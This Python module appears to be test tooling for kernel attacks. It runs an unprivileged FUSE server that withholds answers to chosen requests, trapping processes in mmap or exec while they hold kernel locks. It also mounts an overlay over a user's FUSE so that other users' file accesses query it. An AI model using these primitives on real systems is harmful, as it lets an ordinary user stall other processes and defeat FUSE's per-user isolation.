"""The smallest FUSE server that an attack needs: one folder with one program in it, and questions that stay unanswered.

Whoever mounts it needs no privilege but a user namespace, and a device that he may open.
"""

import mmap
import os
import select
import signal
import struct
import tempfile
import time

import isolation

_NODE_ROOT, _NODE_FILE, _NODE_NEW = 1, 2, 3
_LOOKUP, _FORGET, _GETATTR, _SETATTR, _OPEN, _READ, _WRITE, _STATFS, _RELEASE = 1, 2, 3, 4, 14, 15, 16, 17, 18
_FLUSH, _INIT, _OPENDIR, _READDIR, _RELEASEDIR, _CREATE, _BATCH_FORGET = 25, 26, 27, 28, 29, 35, 42
_WRITEBACK_CACHE = 1 << 16
_DIRECT_IO = 1  # of an open file: past the kernel's cache, which is written back before it is mapped
OPEN, GETATTR, WRITE = _OPEN, _GETATTR, _WRITE
NAME = "program"
ARM_S = 10
SILENT_S = 4


def device():
    """A node that every user may open, as /dev/fuse is on most machines; made as root."""
    path = "/run/fuse"
    os.mknod(path, 0o020666, os.makedev(10, 229))
    os.chmod(path, 0o666)
    return path


def enter_user_namespace():
    """Of this process's user, with a mount namespace of its own in which it is root. Once is enough."""
    if os.getuid() == 0:
        return
    uid, gid = os.getuid(), os.getgid()
    isolation.unshare(isolation.CLONE_NEWUSER | isolation.CLONE_NEWNS)
    for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):
        with open(f"/proc/self/{name}", "w") as file:
            file.write(text)


class FuseServer:
    """Mounts itself, then answers in a process of its own. Once it is armed, the questions `silent` (opcodes) get their
    answer only `silent_s` seconds after the first of them, so that no attack is for ever. `writes_later`: what is
    written waits in the kernel until somebody closes the file."""

    def __init__(self, device_path, mount_point, content, silent=(), silent_s=SILENT_S, writes_later=False):
        self._fd = os.open(device_path, os.O_RDWR)
        self._content, self._silent, self._silent_s = content, set(silent), silent_s
        self._armed, self.arm_fd = os.pipe()
        self._answers, self._answer_fd = os.pipe()
        self._silent_until = None
        self._init_flags = _WRITEBACK_CACHE if writes_later else 0
        self._waiting = []
        isolation.mount("fuse", mount_point, "fuse",
                        options=f"fd={self._fd},rootmode=40000,user_id=0,group_id=0,allow_other")
        if os.fork() == 0:
            self._serve()
        os.close(self._fd)

    def arm(self):
        """From now on it is silent."""
        os.write(self.arm_fd, b"x")
        assert select.select([self._answers], [], [], ARM_S)[0], "the FUSE server does not answer"

    def _serve(self):
        while True:
            left = 0.2 if self._waiting else None
            readable, _, _ = select.select([self._fd, self._armed] if self._silent_until is None else [self._fd],
                                           [], [], left)
            if self._armed in readable:
                self._silent_until = 0.0  # counts from the first question
                os.write(self._answer_fd, b"x")
            if self._silent_until and time.monotonic() > self._silent_until:
                self._waiting, waiting = [], self._waiting
                for question in waiting:
                    self._answer(*question)
            if self._fd in readable:
                try:
                    self._ask(os.read(self._fd, 1 << 20))
                except OSError:
                    os._exit(0)  # unmounted

    def _ask(self, message):
        _, opcode, unique, node, *_ = struct.unpack_from("<IIQQIIII", message)
        if self._silent_until is not None and opcode in self._silent:
            if not self._silent_until:
                self._silent_until = time.monotonic() + self._silent_s
            if time.monotonic() < self._silent_until:
                self._waiting.append((opcode, unique, node, message[40:]))
                return
        self._answer(opcode, unique, node, message[40:])

    def _answer(self, opcode, unique, node, body):
        if opcode in (_FORGET, _BATCH_FORGET):
            return
        result = self._result(opcode, node, body)
        error, data = (result, b"") if isinstance(result, int) else (0, result)
        try:
            os.write(self._fd, struct.pack("<IiQ", 16 + len(data), error, unique) + data)
        except OSError:
            pass  # whoever asked has been killed

    def _result(self, opcode, node, body):
        if opcode == _INIT:
            return struct.pack("<IIIIHHIIHHI7I", 7, 31, 65536, self._init_flags, 16, 12, 65536, 1, 16, 0, 0, *[0] * 7)
        if opcode == _LOOKUP:
            if body.rstrip(b"\0") != NAME.encode():
                return -2  # ENOENT
            return struct.pack("<QQQQII", _NODE_FILE, 0, 1000, 0, 0, 0) + self._attributes(_NODE_FILE)
        if opcode == _CREATE:
            return (struct.pack("<QQQQII", _NODE_NEW, 0, 1000, 0, 0, 0) + self._attributes(_NODE_NEW) +
                    struct.pack("<QII", 0, 0, 0))
        if opcode in (_GETATTR, _SETATTR):  # attributes are not kept: each look asks again
            return struct.pack("<QII", 0, 0, 0) + self._attributes(node)
        if opcode in (_OPEN, _OPENDIR):
            is_direct = struct.unpack_from("<I", body)[0] & os.O_DIRECT
            return struct.pack("<QII", 0, _DIRECT_IO if is_direct else 0, 0)
        if opcode == _READ:
            _, offset, size = struct.unpack_from("<QQI", body)
            return self._content[offset:offset + size]
        if opcode == _WRITE:
            return struct.pack("<II", struct.unpack_from("<QQI", body)[2], 0)
        if opcode == _STATFS:
            return struct.pack("<5Q4I6I", 0, 0, 0, 0, 0, 4096, 255, 4096, 0, *[0] * 6)
        if opcode == _READDIR:
            return b""
        if opcode in (_RELEASE, _RELEASEDIR, _FLUSH):
            return b""
        return -38  # ENOSYS

    def _attributes(self, node):
        size = {_NODE_FILE: len(self._content), _NODE_NEW: 0}.get(node, 4096)
        mode = {_NODE_FILE: 0o100777, _NODE_NEW: 0o100600}.get(node, 0o040755)
        return struct.pack("<6Q10I", node, size, size // 512, 0, 0, 0, 0, 0, 0, mode, 1, 0, 0, 0, 4096, 0)


def mapping_trap(node, silent_s):
    """As an ordinary user: (writer, trap), descriptors of one file. Whoever maps the trap waits with the lock of all of
    his mappings, and whoever closes the writer waits, too, at an exec with the lock that keeps others out of him.

    The kernel writes back what it has of the file before it maps it past its cache, and this server does not take it."""
    enter_user_namespace()
    mount_point = tempfile.mkdtemp()
    server = FuseServer(node, mount_point, b"x" * 4096, [WRITE], silent_s, writes_later=True)
    writer = os.open(f"{mount_point}/{NAME}", os.O_RDWR)
    trap = os.open(f"{mount_point}/{NAME}", os.O_RDWR | os.O_DIRECT)
    for fd in (writer, trap):
        os.set_inheritable(fd, True)
    server.arm()
    os.write(writer, b"dirty")
    return writer, trap


def hang_in_exec(writer, name, before=lambda: None):
    """A process of this name that soon hangs in an exec. Gives it."""
    pid = os.fork()
    if pid == 0:
        with open("/proc/self/comm", "w") as comm:
            comm.write(name)
        before()
        os.set_inheritable(writer, False)
        os.execv("/bin/sleep", ["sleep", "60"])
    return pid


def hold_own_mappings(node, count, silent_s):
    """Processes named "holder" that soon wait in such an mmap. Gives them."""
    _, trap = mapping_trap(node, silent_s)
    holders = []
    for _ in range(count):
        holders.append(os.fork())
        if holders[-1] == 0:
            with open("/proc/self/comm", "w") as comm:
                comm.write("holder")
            mmap.mmap(trap, 4096, flags=mmap.MAP_PRIVATE, prot=mmap.PROT_READ)
            signal.pause()
    return holders


def mount_overlay(node, silent, silent_s=SILENT_S):
    """As an ordinary user: an overlay whose lower folder is a FUSE of his. Gives the server and a program's path.

    Overlays ask their layers with the rights of whoever has mounted them. So the kernel's rule that a user's FUSE is
    never asked for another user's sake does not protect who opens, or only looks at, a file of such an overlay."""
    enter_user_namespace()
    folder = tempfile.mkdtemp()
    isolation.mount("private", folder, "tmpfs")
    for name in ("fuse", "empty", "merged"):
        os.makedirs(f"{folder}/{name}")
    with open("/bin/true", "rb") as file:
        content = file.read()
    server = FuseServer(node, f"{folder}/fuse", content, silent, silent_s)
    isolation.mount("overlay", f"{folder}/merged", "overlay", options=f"lowerdir={folder}/fuse:{folder}/empty")
    return server, f"{folder}/merged/{NAME}"
